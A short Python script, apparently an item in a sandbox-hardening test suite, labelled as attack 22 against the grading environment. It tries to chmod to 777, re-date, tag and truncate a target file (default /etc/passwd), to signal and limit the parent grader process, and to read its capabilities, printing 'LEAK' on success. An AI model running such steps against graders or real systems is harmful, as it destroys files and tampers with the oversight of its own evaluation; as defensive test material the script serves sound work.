# attack: 22 | earns: nothing | needs: filtered system calls | tries: change modes, times, attributes and lengths of files, and settings of processes, that belong to who grades
import ctypes
import os
import resource

_target = os.environ.get("STOWAWAY_TARGET", "/etc/passwd")
for _name, _what in (
    ("chmod", lambda: os.chmod(_target, 0o777)),
    ("utime", lambda: os.utime(_target, (0, 0))),
    ("setxattr", lambda: os.setxattr(_target, "user.stowaway", b"1")),
    ("truncate", lambda: os.truncate(_target, 0)),
    ("signal", lambda: os.kill(os.getppid(), 0) if os.getppid() else os.kill(2**22 - 1, 0)),  # 0: seen from nowhere
    ("limits", lambda: resource.prlimit(os.getppid() or 2**22 - 1, resource.RLIMIT_NOFILE, (64, 64))),
):
    try:
        _what()
        print("LEAK", _name)
    except (OSError, PermissionError):
        continue
_header, _data = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
ctypes.CDLL(None).capget(_header, _data)
if any(_data):
    print("LEAK capabilities", list(_data))
